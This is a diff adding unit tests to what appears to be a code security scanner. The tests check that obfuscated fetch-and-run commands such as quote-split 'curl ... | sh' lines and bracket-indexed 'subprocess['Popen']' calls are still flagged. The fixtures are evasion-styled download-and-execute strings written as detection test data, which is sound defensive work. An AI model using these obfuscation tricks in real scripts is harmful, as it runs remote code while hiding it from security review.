@@ -631,6 +631,26 @@ START_TEST(normalised_view)
 	scan_str("a.sh", "cu\"rl\" -s http://x/i | s'h'\n", &fl);
 	ck_assert_uint_eq(tu_count(&fl, "curl-sh"), 1);
 	finding_list_free(&fl);
+	/* Empty quotes at a word's edge, at a line's start or end (the
+	 * trigger skips only those apart from words: x = "", a docstring). */
+	scan_str("a.sh", "''curl -s http://x/i | sh\n", &fl);
+	ck_assert_uint_eq(tu_count(&fl, "curl-sh"), 1);
+	finding_list_free(&fl);
+	scan_str("a.sh", "x=1\n\"\"curl -s http://x/i | sh\n", &fl);
+	ck_assert_uint_eq(tu_count(&fl, "curl-sh"), 1);
+	ck_assert_uint_eq(tu_first(&fl, "curl-sh")->line, 2);
+	finding_list_free(&fl);
+	scan_str("a.sh", "curl'' -s http://x/i | sh''", &fl);
+	ck_assert_uint_eq(tu_count(&fl, "curl-sh"), 1);
+	finding_list_free(&fl);
+	/* A member named by a literal (subprocess['Popen'] is
+	 * subprocess.Popen), with or without a space before the bracket. */
+	scan_str("a.py", "p = subprocess['Popen']([x])\n", &fl);
+	ck_assert_uint_eq(tu_count(&fl, "popen"), 1);
+	finding_list_free(&fl);
+	scan_str("a.py", "p = subprocess ['Popen']([x])\n", &fl);
+	ck_assert_uint_eq(tu_count(&fl, "popen"), 1);
+	finding_list_free(&fl);
 	/* A part that looks like a contraction (ba's'h is bash). */
 	scan_str("a.sh", "curl -s http://x/i | ba's'h\n", &fl);
 	ck_assert_uint_eq(tu_count(&fl, "curl-sh"), 1);
